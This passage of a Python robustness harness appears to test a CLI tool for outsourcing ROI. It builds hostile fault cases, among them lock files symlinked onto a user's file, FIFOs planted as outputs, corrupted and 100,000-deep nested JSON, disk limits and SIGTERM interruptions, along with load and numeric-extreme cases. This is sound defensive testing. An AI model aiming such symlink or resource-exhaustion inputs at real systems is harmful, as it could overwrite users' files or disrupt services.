            return Spec(commands[name](ctx), timeout=RUN_TIMEOUT)

        fault(f"lock-held/{name}", held, handled([2], ["another bpo-roi run"]),
              quick=name == "run")

        def linked(ctx: Context, name: str = name) -> Spec:
            victim = _user_file(ctx, ctx.inputs / "victim.txt")
            ctx.out.mkdir()
            (ctx.out / ".bpo-roi.lock").symlink_to(victim)
            ctx.protect(ctx.out / ".bpo-roi.lock")
            return Spec(commands[name](ctx), timeout=RUN_TIMEOUT)

        fault(f"lock-symlink/{name}", linked, handled([2], ["lock"]), quick=name == "sweep")

    def lock_fifo(ctx: Context) -> Spec:
        ctx.protect(_fifo(ctx.out / ".bpo-roi.lock"))
        return Spec(commands["sweep"](ctx))

    fault("lock-fifo/sweep", lock_fifo, handled([2], ["lock"]))

    def stale_lock(ctx: Context) -> Spec:
        ctx.out.mkdir()
        (ctx.out / ".bpo-roi.lock").write_text("pid 999999")
        return Spec(commands["sweep"](ctx))

    fault("stale-lock/sweep", stale_lock, handled([0], check=_lock_removed))
    fifos = {"run": "summary.csv", "evaluate": "monthly.csv", "sweep": "sweep.csv",
             "diff": "diff.csv"}
    for name, file in fifos.items():
        def fifo_result(ctx: Context, name: str = name, file: str = file) -> Spec:
            ctx.protect(_fifo(ctx.out / file))
            return Spec(commands[name](ctx), timeout=RUN_TIMEOUT)

        fault(f"fifo-{file}/{name}", fifo_result, handled([2], [file]),
              quick=name == "evaluate")

    def user_monthly(ctx: Context) -> Spec:
        _user_file(ctx, ctx.out / "monthly.csv", "my,own\n1,2\n")
        return Spec(commands["evaluate"](ctx))

    fault("user-monthly-csv/evaluate", user_monthly, handled([2], ["monthly.csv"]))

    def user_folder(ctx: Context) -> Spec:
        _user_file(ctx, ctx.out / "accounts-payable-invoice-processing" / "precious.xlsx")
        return Spec(commands["run"](ctx), timeout=RUN_TIMEOUT)

    fault("user-folder-named-like-the-scenario/run", user_folder,
          handled([1], ["not written by bpo-roi"]), kernels=True)

    def damaged(ctx: Context) -> Spec:
        from bpo_roi.reporting.files import write_kit_marker

        kinds: dict[str, bytes | None] = {
            "not-json": b"{this is not json",
            "deep": b"[" * 100_000 + b"]" * 100_000,
            "wrong-types": json.dumps({"scenario": 5, "offers": [], "currency": None}).encode(),
            "empty": b"",
            "not-utf8": b"\xff\xfe{}",
            "fifo": None,
        }
        for kind, content in kinds.items():
            folder = ctx.out / f"earlier-{kind}"
            folder.mkdir(parents=True)
            write_kit_marker(folder, run_id="earlier")
            target = folder / "metrics.json"
            if content is None:
                _fifo(target)
            else:
                target.write_bytes(content)
            ctx.protect(target)
        return Spec(commands["run"](ctx), timeout=RUN_TIMEOUT)

    def summary_lists_damage(ctx: Context, r: Result) -> str | None:
        summary = ctx.out / "summary.csv"
        if not summary.is_file():
            return "summary.csv was not written"
        text = summary.read_text(encoding="utf-8")
        missing = [k for k in ("not-json", "deep", "wrong-types", "empty", "not-utf8", "fifo")
                   if f"earlier-{k}" not in text]
        return f"summary.csv does not list earlier-{missing[0]}" if missing else None

    fault("damaged-metrics-json/run", damaged,
          handled([0, 1], one_line=False, check=summary_lists_damage), kernels=True)

    def disk_full(ctx: Context) -> Spec:
        ctx.out.mkdir()
        first = subprocess.run([sys.executable, "-m", "bpo_roi.cli", "evaluate", HD, "--out",
                                str(ctx.out)], capture_output=True, env=_environment(
                                    ctx, "setup"), timeout=TIMEOUT, cwd=ctx.cwd)
        if first.returncode != 0:
            raise RuntimeError(f"setup evaluate failed: {first.stderr[:200]!r}")
        for name in ("monthly.csv", "annual.csv", "metrics.json"):
            ctx.protect(ctx.out / name)
        return Spec(["evaluate", CLAIMS, "--out", str(ctx.out)], file_size_limit=4096)

    fault("file-size-limit/evaluate", disk_full,
          handled([1, 2], ["out"], check=_no_temporary_files), quick=True)

    def closed_stdout(ctx: Context) -> Spec:
        return Spec(["evaluate", AP, "--out", str(ctx.out)], close_stdout=True)

    def results_written(ctx: Context, r: Result) -> str | None:
        del r
        missing = [n for n in ("monthly.csv", "metrics.json") if not (ctx.out / n).is_file()]
        return f"{missing[0]} not written" if missing else None

    fault("closed-stdout/evaluate", closed_stdout, handled([0, 1], one_line=False,
                                                           check=results_written))

    def sigterm_run(ctx: Context) -> Spec:
        _user_file(ctx, ctx.out / "notes.txt")
        path = ctx.write("s.yaml", shipped_text("claims_back_office"))
        return Spec(_run_args(ctx, str(path), HD, trials=2000), timeout=RUN_TIMEOUT,
                    during=_terminate_when(lambda c: any(c.out.glob(".*.partial-*")), 3.0))

    fault("sigterm/run", sigterm_run, handled([128 + signal.SIGTERM], ["interrupted"],
                                              check=_lock_removed), kernels=True)

    def sigterm_sweep(ctx: Context) -> Spec:
        _user_file(ctx, ctx.out / "notes.txt")
        grid = "workload.monthly_volume=" + ",".join(str(40_000 + i) for i in range(3000))
        args = [*_sweep_args(ctx, CLAIMS, grid)]
        args[args.index("--workers") + 1] = "2"
        return Spec(args, during=_terminate_when(
            lambda c: (c.out / ".bpo-roi.lock").exists(), 2.0))

    def nothing_written(ctx: Context, r: Result) -> str | None:
        if (ctx.out / "sweep.csv").exists():
            return "sweep.csv written by an interrupted sweep"
        return _lock_removed(ctx, r)

    fault("sigterm/sweep", sigterm_sweep, handled([128 + signal.SIGTERM], ["interrupted"],
                                                  check=nothing_written), quick=True)
    return cases


def _terminate_when(ready: Callable[[Context], bool], delay: float,
                    wait: float = 120.0) -> Callable[[subprocess.Popen[bytes], Context], None]:
    """Send SIGTERM to the command ``delay`` seconds after ``ready`` holds (at most ``wait``
    seconds later, or at once if it has ended)."""

    def during(proc: subprocess.Popen[bytes], ctx: Context) -> None:
        deadline = time.monotonic() + wait
        while time.monotonic() < deadline and not ready(ctx):
            if os.waitid(os.P_PID, proc.pid, os.WEXITED | os.WNOHANG | os.WNOWAIT):
                return  # it ended before the moment came
            time.sleep(0.05)
        time.sleep(delay)
        with contextlib.suppress(ProcessLookupError):
            os.kill(proc.pid, signal.SIGTERM)

    return during


# -- load ----------------------------------------------------------------------------------------


def load_cases() -> list[Case]:
    cases: list[Case] = []

    def load(case_id: str, prepare: Callable[[Context], Spec], quick: bool = False,
             codes: Sequence[int] = (0, 2)) -> None:
        cases.append(Case(f"load/{case_id}", "load", prepare, bounded(codes=codes),
                          quick=quick))

    def evaluate_text(text: Callable[[], str]) -> Callable[[Context], Spec]:
        def prepare(ctx: Context) -> Spec:
            return Spec(["evaluate", str(ctx.write("s.yaml", text())), "--out", str(ctx.out)])
        return prepare

    load("queue-sl-0.999999-answer-0", evaluate_text(lambda: mutated("contact_centre", {
        "workload.queue.service_level": 0.999999, "workload.queue.answer_seconds": 0})),
        quick=True)
    load("queue-1e9-calls", evaluate_text(lambda: mutated("contact_centre", {
        "workload.monthly_volume": 1e9})))
    load("queue-5-min-intervals-24h-240-months", evaluate_text(lambda: mutated(
        "contact_centre", {"workload.queue.interval_minutes": 5,
                           "workload.queue.hours_open_per_day": 24,
                           "workload.queue.intraday_profile": None,
                           "workload.monthly_volume": 2_000_000,
                           "scenario.horizon_months": 240})))
    load("erlang-a-tiny-patience", evaluate_text(lambda: mutated("contact_centre", {
        "workload.queue.patience_seconds": 0.001, "workload.queue.max_abandon_rate": 0.0001,
        "workload.queue.service_level": 0.999999})))
    load("work-hours-1e9-transactions", evaluate_text(lambda: mutated(
        "ap_invoice_processing", {"workload.monthly_volume": 1e9})))
    load("horizon-240-richest", evaluate_text(lambda: mutated(
        "claims_back_office", {"scenario.horizon_months": 240})))
    grid_1000 = ",".join(str(30_000 + i) for i in range(1000))
    rates = ",".join(f"{10 + i / 100:.2f}" for i in range(1000))
    load("sweep-1000000-variants-without-yes", lambda c: Spec(
        [*_sweep_args(c, AP, f"workload.monthly_volume={grid_1000}"), "--grid",
         f"offers[2].pricing.rate={rates}"]), quick=True)
    load("sweep-1000001-variants", lambda c: Spec(
        [*_sweep_args(c, AP, f"workload.monthly_volume={grid_1000},99999"), "--grid",
         f"offers[2].pricing.rate={rates}"]))

    def workers_64(ctx: Context) -> Spec:
        args = _sweep_args(ctx, HD, "workload.monthly_volume=8000,9000")
        args[args.index("--workers") + 1] = "64"
        return Spec(args)

    load("sweep-workers-64", workers_64)

    def many_changes(ctx: Context) -> Spec:
        from bpo_roi.scenario.reading import load_scenario

        scenario = load_scenario(CLAIMS)
        changes = {}
        for path in scenario.numeric_paths():
            value = scenario.get(path)
            bounds = scenario.field_bounds(path)
            if isinstance(value, float) and value > 0 and bounds["lt"] is None and (
                    bounds["le"] is None or value * 1.01 <= bounds["le"]) and \
                    not any(k in path for k in ("seasonality", "intraday", "waves", "fx_rate")):
                changes[path] = value * 1.01  # (seasonality and wave shares keep their sums)
        old = ctx.write("old.yaml", shipped_text("claims_back_office"))
        new = ctx.write("new.yaml", mutated("claims_back_office", changes))
        load_scenario(new)  # a valid new version, or the corpus is wrong (raises)
        return Spec(["diff", str(old), str(new), "--out", str(ctx.out)])

    load("diff-every-number-changed", many_changes, quick=True)
    load("diff-different-scenarios", lambda c: Spec(["diff", CC, HD, "--out", str(c.out)]))
    load("file-just-under-1-mib", evaluate_text(
        lambda: shipped_text("ap_invoice_processing") + "# " + "x" * ((1 << 20) - 20_000)
        + "\n"))
    return cases


# -- numeric sanity --------------------------------------------------------------------------


def numeric_cases() -> list[Case]:
    """Valid inputs at their extremes: refused in one line naming an input, or every figure
    finite and sane."""
    in_house_max = {"in_house.salary_annual": 1e8, "in_house.supervisor_salary_annual": 1e8,
                    "in_house.overhead_per_seat_monthly": 1e10, "in_house.cost_per_hire": 1e10,
                    "in_house.fixed_monthly": 1e10, "in_house.attrition_annual": 3.0,
                    "in_house.benefits_rate": 1.0, "in_house.wage_inflation_annual": 1.0,
                    "in_house.cost_inflation_annual": 1.0, "in_house.error_rate": 1.0,
                    "in_house.rework_minutes": 10_000}
    table: dict[str, tuple[str, dict[str, Any]]] = {
        "small-factors-at-minimum": ("ap_invoice_processing", {
            "in_house.paid_hours_per_month": 1, "in_house.shrinkage": 0.0,
            "in_house.occupancy": 1.0}),
        "small-factors-below-one-hour": ("ap_invoice_processing", {
            "in_house.paid_hours_per_month": 744, "in_house.shrinkage": 0.999,
            "in_house.occupancy": 0.001}),
        "occupancy-1e-300": ("ap_invoice_processing", {"in_house.occupancy": 1e-300}),
        "schedule-efficiency-tiny": ("contact_centre", {
            "workload.queue.schedule_efficiency": 1e-6}),
        "all-maxima-240-months": ("ap_invoice_processing", {
            "scenario.horizon_months": 240, "workload.monthly_volume": 1e9,
            "workload.handle_time_minutes": 10_000, "workload.annual_growth": 1.0,
            **in_house_max}),
        "in-house-maxima-240-months": ("ap_invoice_processing", {
            "scenario.horizon_months": 240, **in_house_max}),
        "growth-100pct-240-months": ("ap_invoice_processing", {
            "scenario.horizon_months": 240, "workload.annual_growth": 1.0}),
        "decline-50pct-240-months": ("ap_invoice_processing", {
            "scenario.horizon_months": 240, "workload.annual_growth": -0.5}),
        "wage-inflation-100pct-240-months": ("contact_centre", {
            "scenario.horizon_months": 240, "in_house.wage_inflation_annual": 1.0,
            "in_house.cost_inflation_annual": 1.0}),
        "escalation-100pct-240-months": ("it_helpdesk", {
            "scenario.horizon_months": 240, "offers.0.escalation_annual": 1.0,
            "offers.1.escalation_annual": 1.0, "offers.2.escalation_annual": 1.0}),
        "tiny-volume": ("ap_invoice_processing", {"workload.monthly_volume": 1}),
        "tiny-volume-queue": ("contact_centre", {"workload.monthly_volume": 1}),
        "volume-below-one-in-quiet-season": ("contact_centre", {
            "workload.monthly_volume": 1, "workload.seasonality": [
                11.945, *[0.005] * 11]}),
        "zero-outsourced-cost": ("ap_invoice_processing", {
            "offers.0.pricing.tiers": [{"up_to_volume": None, "rate_per_transaction": 1e-300}],
            "offers.0.pricing.minimum_monthly_volume": 0,
            "offers.0.governance": {"retained_fte": 0}, "offers.0.transition": {},
            "offers.0.exit_cost": 0, "offers.0.quality": {"error_rate": 0.0}}),
        "zero-in-house-cost": ("ap_invoice_processing", {
            "in_house.salary_annual": 0, "in_house.supervisor_salary_annual": 0,
            "in_house.benefits_rate": 0, "in_house.overhead_per_seat_monthly": 0,
            "in_house.fixed_monthly": 0, "in_house.cost_per_hire": 0}),
        "prices-at-maximum": ("it_helpdesk", {"offers.1.pricing.rate_per_seat_month": 1e8,
                                              "offers.2.pricing.rate_per_hour": 1e8}),
        "discount-rate-0": ("ap_invoice_processing", {"scenario.discount_rate_annual": 0.0}),
        "discount-rate-1": ("ap_invoice_processing", {"scenario.discount_rate_annual": 1.0}),
        "horizon-1-month": ("ap_invoice_processing", {
            "scenario.horizon_months": 1, "offers.0.parallel_run_months": 0,
            "offers.1.parallel_run_months": 0}),
        "fx-rate-minimum": ("ap_invoice_processing", {"offers.1.fx_rate": 1e-6}),
        "fx-rate-maximum": ("ap_invoice_processing", {"offers.1.fx_rate": 1e6}),
        "handle-time-factor-10": ("contact_centre", {"offers.0.handle_time_factor": 10.0,
                                                     "offers.1.handle_time_factor": 10.0,
                                                     "correlations": None}),
        "ramp-60-months-at-1pct": ("ap_invoice_processing", {
            "offers.0.ramp": {"start_fraction": 0.01, "months": 60}}),
        "error-rate-1-rework-max": ("ap_invoice_processing", {
            "offers.0.quality.error_rate": 1.0, "offers.0.quality.ramp_error_multiplier": 10,
            "offers.0.quality.rework_minutes": 10_000}),
        "transition-costs-at-maximum": ("ap_invoice_processing", {
            "offers.0.transition.vendor_selection": 1e10,
            "offers.0.transition.knowledge_transfer": 1e10,
            "offers.0.transition.it_integration": 1e10, "offers.0.exit_cost": 1e10}),
        "span-of-control-1": ("contact_centre", {"in_house.span_of_control": 1}),
        "minimum-seats-1e7": ("contact_centre", {"offers.0.pricing.minimum_seats": 1e7}),
        "risk-adjustment-maximum": ("contact_centre", {
            "scenario.risk_adjustment.benefit_haircut": 1.0,
            "scenario.risk_adjustment.cost_uplift": 1.0}),
        "tax-rate-0.999": ("claims_back_office", {"scenario.tax.rate": 0.999}),
        "materiality-extremes": ("ap_invoice_processing", {"scenario.materiality": 1.0}),
        "fiscal-year-december-240-months": ("ap_invoice_processing", {
            "scenario.fiscal_year_start_month": 12, "scenario.horizon_months": 240}),
        "seasonality-extreme": ("ap_invoice_processing", {
            "workload.seasonality": [11.0, *[1 / 11] * 11]}),
    }
    quick = {"small-factors-at-minimum", "all-maxima-240-months", "tiny-volume",
             "zero-outsourced-cost", "growth-100pct-240-months", "minimum-seats-1e7"}
    cases = []
    for case_id, (stem, changes) in table.items():
        names = sorted({last_field(p) for p in changes}
                       | {p.split(".")[0].removesuffix("s") for p in changes})

        def prepare(ctx: Context, stem: str = stem, changes: dict[str, Any] = changes) -> Spec:
            path = ctx.write("s.yaml", mutated(stem, changes))
            return Spec(["evaluate", str(path), "--out", str(ctx.out)])

        cases.append(Case(f"num/{case_id}", "numeric", prepare, sane(names),
                          quick=case_id in quick))
    return cases


# -- writes outside --out ----------------------------------------------------------------------


def writes_cases() -> list[Case]:
    """Each command with HOME, the working directory and the inputs watched (every case of
    every category is watched so; these are the plain commands on valid inputs)."""

    def plain(case_id: str, args: Callable[[Context], list[str]], codes: Sequence[int] = (0,),
              quick: bool = False, kernels: bool = False,
              allowed: Callable[[Context], Path] | None = None) -> Case:
        def prepare(ctx: Context) -> Spec:
            scenario = ctx.write("s.yaml", shipped_text("ap_invoice_processing"))
            _user_file(ctx, ctx.cwd / "notes.txt")
            _user_file(ctx, ctx.home / ".bashrc", "# the user's shell\n")
            if allowed is not None:
                ctx.allowed.append(allowed(ctx))
            full = [a.replace("{s}", str(scenario)) for a in args(ctx)]
            return Spec(full, timeout=RUN_TIMEOUT if kernels else TIMEOUT)

        return Case(f"writes/{case_id}", "writes", prepare, handled(codes), quick=quick,
                    kernels=kernels)

    return [
        plain("validate", lambda c: ["validate", "{s}"], quick=True),
        plain("evaluate", lambda c: ["evaluate", "{s}", "--out", str(c.out)], quick=True),
        plain("evaluate-relative-out", lambda c: ["evaluate", "{s}", "--out", "../out"]),
        plain("diff", lambda c: ["diff", "{s}", HD, "--out", str(c.out)]),
        plain("sweep", lambda c: _sweep_args(c, "{s}")),
        plain("new", lambda c: ["new", "mine", "--dir", str(c.out)]),
        plain("notebook-path", lambda c: ["notebook-path", "business_case"]),
        plain("run", lambda c: _run_args(c, "{s}"), kernels=True),
    ]


# -- the corpus ------------------------------------------------------------------------------


def generate_cases() -> list[Case]:
    """Every case of the corpus, in a fixed order (bad input, injection, faults, load, numeric,
    writes); case ids are unique."""
    cases = [*bad_input_cases(), *injection_cases(), *faults_cases(), *load_cases(),
             *numeric_cases(), *writes_cases()]
    ids = [c.id for c in cases]
    duplicates = sorted({i for i in ids if ids.count(i) > 1})
    if duplicates:
        raise RuntimeError(f"case ids given twice: {duplicates}")
    return cases


def select(cases: Sequence[Case], *, quick: bool = False,
           categories: Sequence[str] = (), match: str = "") -> list[Case]:
    return [c for c in cases if (not quick or c.quick)
            and (not categories or c.category in categories) and match in c.id]


def report(outcomes: Sequence[Outcome], seconds: float) -> str:
    """The table (category, cases, passed, failed, skipped) and every failure."""
    lines = [f"{'category':<12} {'cases':>6} {'passed':>7} {'failed':>7} {'skipped':>8}"]
    totals = [0, 0, 0, 0]
    for category in CATEGORIES:
        mine = [o for o in outcomes if o.case.category == category]
        if not mine:
            continue
        row = [len(mine), sum(o.status == "pass" for o in mine),
               sum(o.status == "fail" for o in mine), sum(o.status == "skip" for o in mine)]
        totals = [a + b for a, b in zip(totals, row, strict=True)]
        lines.append(f"{category:<12} {row[0]:>6} {row[1]:>7} {row[2]:>7} {row[3]:>8}")
    lines.append(f"{'total':<12} {totals[0]:>6} {totals[1]:>7} {totals[2]:>7} {totals[3]:>8}"
                 f"   ({seconds:.0f} s)")
    failed = [o for o in outcomes if o.status == "fail"]
    if failed:
        lines += ["", f"Failures ({len(failed)}):"]
        for o in failed:
            err = o.stderr.strip().replace("\n", " ⏎ ")[:200]
            lines.append(f"  [{o.case.category}] {o.case.id}: {o.reason}")
            if err:
                lines.append(f"      stderr: {err}")
    skipped = [o for o in outcomes if o.status == "skip"]
    if skipped:
        lines += ["", "Skipped:"] + [f"  [{o.case.category}] {o.case.id}: {o.reason}"
                                     for o in skipped]
    return "\n".join(lines)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--quick", action="store_true",
                        help="a fixed subset of about forty cases (under two minutes)")
    parser.add_argument("--category", action="append", choices=CATEGORIES, default=[],
                        help="run only this category (repeatable)")
    parser.add_argument("--match", default="", metavar="TEXT",
                        help="run only the cases whose id contains TEXT")
    parser.add_argument("--list", action="store_true", help="print the case ids and stop")
    parser.add_argument("--keep", action="store_true",
                        help="keep the cases' folders (printed) for a look afterwards")
    parser.add_argument("--jobs", type=int, default=1, metavar="N",
                        help="cases run at the same time (default 1: the machine is shared)")
    parser.add_argument("--verbose", action="store_true",
                        help="one line per case: status, exit status, seconds, last line of stderr")
    args = parser.parse_args(argv)
    cases = select(generate_cases(), quick=args.quick, categories=args.category,
                   match=args.match)
    if args.list:
        for case in cases:
            print(f"{case.category:<10} {case.id}{'  (kernels)' if case.kernels else ''}")
        return 0
    counts = ", ".join(f"{c} {sum(x.category == c for x in cases)}" for c in CATEGORIES
                       if any(x.category == c for x in cases))
    print(f"hostile corpus: {len(cases)} cases ({counts}); "
          f"{sum(c.kernels for c in cases)} start Jupyter kernels", flush=True)
    base = Path(tempfile.mkdtemp(prefix="bpo-roi-hostile-"))
    (base / "cases").mkdir()
    (base / "logs").mkdir()
    known = frozenset(_safe_name(c.id) for c in cases) if args.jobs > 1 else frozenset()
    start = time.monotonic()
    outcomes: dict[str, Outcome] = {}

    def one(case: Case) -> Outcome:
        outcome = run_case(case, base, known)
        if not args.keep:
            shutil.rmtree(base / "cases" / _safe_name(case.id), ignore_errors=True)
        return outcome

    def show(outcome: Outcome) -> None:
        outcomes[outcome.case.id] = outcome
        if args.verbose:
            said = (outcome.stderr.strip().splitlines() or [""])[-1][:160]
            print(f"{outcome.status.upper():<4} {outcome.case.id}  exit {outcome.returncode}  "
                  f"{outcome.seconds:.1f} s  {said}", flush=True)
            return
        mark = {"pass": ".", "fail": "F", "skip": "s"}[outcome.status]
        n = len(outcomes)
        print(mark, end="\n" if n % 80 == 0 or n == len(cases) else "", flush=True)

    try:
        if args.jobs <= 1:
            for case in cases:
                show(one(case))
        else:
            from concurrent.futures import ThreadPoolExecutor, as_completed

            with ThreadPoolExecutor(args.jobs) as pool:
                for future in as_completed([pool.submit(one, c) for c in cases]):
                    show(future.result())
    finally:
        if args.keep:
            print(f"cases kept in {base}")
        else:
            shutil.rmtree(base, ignore_errors=True)
    print(report([outcomes[c.id] for c in cases if c.id in outcomes],
                 time.monotonic() - start))
    return 0


if __name__ == "__main__":
    sys.exit(main())
